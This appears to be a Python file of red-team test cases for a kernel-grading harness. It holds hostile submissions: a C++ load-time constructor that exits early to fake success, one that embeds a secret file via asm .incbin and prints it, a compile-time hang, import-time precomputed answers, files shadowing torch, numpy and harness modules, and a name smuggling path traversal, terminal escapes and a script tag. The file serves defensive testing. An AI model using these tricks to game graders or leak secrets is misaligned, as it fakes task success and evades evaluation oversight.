"""Code that runs while building or loading, and names that pretend to be something else (families 38, 39)."""

from __future__ import annotations

from redteam.cases import Attack

_CPP = """
#include <tvm/ffi/container/tensor.h>
#include <tvm/ffi/function.h>
using tvm::ffi::TensorView;
{more}
void Run(TensorView x, TensorView w, TensorView b, TensorView y) {{
  float *X = (float *)x.data_ptr(), *W = (float *)w.data_ptr(), *B = (float *)b.data_ptr();
  float *Y = (float *)y.data_ptr();
  for (int i = 0; i < 16; ++i)
    for (int j = 0; j < 256; ++j) Y[i * 256 + j] = X[i * 256 + j] * W[j] + B[j];
}}
TVM_FFI_DLL_EXPORT_TYPED_FUNC(run, Run);
"""

_SHADOW = "raise RuntimeError('a file of a solution was taken for a module of the harness')\n"

ATTACKS = (
    Attack(
        family=38,
        name="constructor_that_exits",
        language="cpp",
        source="""
            #include <unistd.h>
            #include <tvm/ffi/container/tensor.h>
            #include <tvm/ffi/function.h>
            __attribute__((constructor)) static void begin() { _exit(0); }
            void Run(tvm::ffi::TensorView, tvm::ffi::TensorView, tvm::ffi::TensorView, tvm::ffi::TensorView) {}
            TVM_FFI_DLL_EXPORT_TYPED_FUNC(run, Run);
            """,
    ),
    Attack(
        family=38,
        name="secret_built_into_the_library",
        language="cpp",
        honest_path=True,
        honest_cost_factor=0.4,
        needs="sandbox",
        source=_CPP.format(
            more="""
#include <stdio.h>
asm(".section .rodata\\nstolen: .incbin \\"@SECRET_FILE@\\"\\n.byte 0\\n.previous");
extern "C" const char stolen[] __attribute__((visibility("hidden")));
__attribute__((constructor)) static void begin() { printf("@LEAK@ %s\\n", stolen); fflush(stdout); }
"""
        ),
    ),
    Attack(
        family=38,
        name="build_that_never_ends",
        language="cpp",
        patience="short",
        source="""
            template <unsigned long N, unsigned long M> struct Slow {
              static constexpr unsigned long value = Slow<N - 1, M * 2>::value + Slow<N - 1, M * 2 + 1>::value;
            };
            template <unsigned long M> struct Slow<0, M> { static constexpr unsigned long value = M; };
            int never = Slow<40, 1>::value;
            """,
    ),
    Attack(
        family=38,
        name="work_at_import",
        problem="project",
        source="""
            import torch
            answer = torch.zeros(256, 256)
            def run(x, w, b, y):
                y.copy_(answer)
            """,
    ),
    Attack(
        family=39,
        name="files_named_like_the_harness",
        honest_path=True,
        files={
            "torch.py": _SHADOW,
            "sitecustomize.py": _SHADOW,
            "pytest_fib/__init__.py": _SHADOW,
            "pytest_fib/candidate/worker.py": _SHADOW,
            "numpy/__init__.py": _SHADOW,
            "traceback.py": _SHADOW,
        },
        source="""
            import numpy, torch, traceback, pytest_fib.candidate.worker
            def run(x, w, b, y):
                @HONEST@
            """,
    ),
    Attack(
        family=39,
        name="../../tmp/@MARKER@\x1b[2J<script>",
        honest_path=True,
        source="""
            import torch
            def run(x, w, b, y):
                @HONEST@
            """,
    ),
    Attack(
        family=39,
        name="entry_of_another_module",
        entry="main.py::torch.addcmul",
        source="""
            import torch
            """,
    ),
)
